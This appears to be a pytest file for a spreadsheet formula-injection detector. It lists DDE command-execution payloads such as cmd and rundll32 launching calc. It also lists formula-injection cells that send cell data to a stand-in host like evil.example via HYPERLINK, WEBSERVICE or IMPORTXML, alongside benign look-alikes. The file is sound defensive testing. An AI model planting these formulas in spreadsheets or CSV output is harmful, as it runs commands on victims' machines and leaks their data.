"""Formulas that do more than calculate, and the cells of tables that only look like them."""

from __future__ import annotations

import pytest

from tests.extract.readers.reading import flat, read
from veritensor_ray.extract.readers.common.formulas import cell_notice, cell_notices
from veritensor_ray.extract.sniff import Kind


@pytest.mark.parametrize(
    ("text", "notice"),
    [
        ("=cmd|'/C calc'!A0", "dde"),
        ("=cmd|' /C notepad'!'A1'", "dde"),
        ("+cmd|'/C calc'!A0", "dde"),
        ("-2+3+cmd|' /C calc'!A0", "dde"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "dde"),
        ("\t=cmd|'/C calc'!A0", "dde"),
        ("\r=cmd|'/C calc'!A0", "dde"),
        ('=DDE("cmd";"/C calc";"__DdeLink")', "dde"),
        ("=rundll32|'URL.dll,OpenURL calc.exe'!A", "dde"),
        (r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''", "dde"),
        ('=HYPERLINK("http://evil.example?d="&A1,"click")', "formula-injection"),
        ('=WEBSERVICE("http://evil.example")', "formula-injection"),
        ('=IFERROR(webservice("http://x"),"")', "formula-injection"),
        ('=IMPORTXML(CONCAT("http://x?v=",A1),"//a")', "formula-injection"),
        ('=IMAGE("https://x/?"&B2)', "formula-injection"),
        ('＝HYPERLINK("http://evil.example")', "formula-injection"),
        ("-5", None),
        ("-5.2e-3", None),
        ("+49 170 1234567", None),
        ("+1 (555) 010-0199", None),
        ("@name", None),
        ("@team (everybody)", None),
        ("=1+1", None),
        ("=SUM(A1:A9)", None),
        ("=== chapter (one) ===", None),
        ("- call (555) 123 | or write!", None),
        ("- yes | no! Great", None),
        ("-- a comment (SQL)", None),
        ("=> see IMAGE below", None),
        ("text with =cmd|'/C calc'!A0 in it", None),
        ("", None),
        ("=", None),
    ],
)
def test_cells(text: str, notice: str | None) -> None:
    assert cell_notice(text) == notice
    assert (cell_notices([text, "other"]) if text else None) == ([notice, None] if notice else None)


def test_a_table_with_one_in_it() -> None:
    blocks, _ = read(b"name,amount\nAda,-5\nEve,\"=cmd|'/C calc'!A0\"\n", Kind("text/csv", "utf-8"))
    assert flat(blocks, "row", "column", "notice")[2:] == [
        ("Ada", 0, "name", None),
        ("-5", 0, "amount", None),
        ("Eve", 1, "name", None),
        ("=cmd|'/C calc'!A0", 1, "amount", "dde"),
    ]


@pytest.mark.parametrize(
    "text", ["=" + "a|" * 4000, "=" + "(" * 8000, "+" + "x" * 100_000 + "|'" + "'" * 100_000, "=HYPERLINK(" + "a" * 8000]
)
def test_hostile_cells_take_no_time(text: str) -> None:
    for _ in range(50):
        cell_notice(text)
